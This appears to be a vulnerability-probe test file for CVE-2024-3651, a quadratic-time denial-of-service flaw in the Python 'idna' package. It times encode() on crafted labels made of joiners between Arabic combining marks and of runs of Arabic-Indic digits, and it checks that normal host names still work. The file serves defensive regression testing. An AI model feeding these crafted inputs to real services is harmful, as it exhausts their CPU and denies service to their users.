# /// vertice-probe
# id = "PYSEC-2024-60"
# aliases = ["CVE-2024-3651"]
# package = "idna"
# summary = """\
#   encode() looks through the whole label again for each character with a context rule, so a long host name takes \
#   quadratic time."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-400", "CWE-1333"]
# kind = "dos"
# symbols = ["idna.encode", "idna.alabel", "idna.check_label", "idna.core.encode"]
#
# [[affected]]
# package = "idna"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0.1" }, { fixed = "3.7" }] }]
#
# [cases]
# attack = "joiners between combining marks take quadratic time"
# [cases.variants]
# digits = "Arabic-Indic digits, whose rule looks through the label for digits of the other kind"
# [cases.controls]
# names = "German, Persian and plain host names are encoded and decoded"
#
# [test]
# vulnerable = "3.6"
# fixed = "3.14"
# ///
"""CVE-2024-3651: quadratic context checks (published as fixed in 3.7, where contextual digits are still quadratic)."""

import json
import sys
import time


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def work(label):
    import idna

    def encode(size):
        try:
            idna.encode(label(size))
        except idna.IDNAError as error:
            return "refused with %s" % type(error).__name__
        raise RuntimeError("a label that is too long was encoded")

    return encode


def attack():
    return judge(work(lambda size: "\u0628" + "\u064e\u200c" * size + "\u0628"), 150, 1200, 22, "joiners")


def digits():
    return judge(work(lambda size: "\u0660" * size), 400, 3200, 22, "digits")


def names():
    import idna

    pairs = [
        ("b\u00fccher.example", b"xn--bcher-kva.example"),
        ("\u0646\u0627\u0645\u0647\u200c\u0627\u06cc.example", b"xn--mgba3gch31f060k.example"),
        ("www.example.org", b"www.example.org"),
    ]
    for name, wire in pairs:
        if idna.encode(name) != wire or idna.decode(wire) != name:
            return "broken", repr((name, idna.encode(name)))
    return "works", "three names encoded and decoded"


CASES = {"attack": attack, "digits": digits, "names": names}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
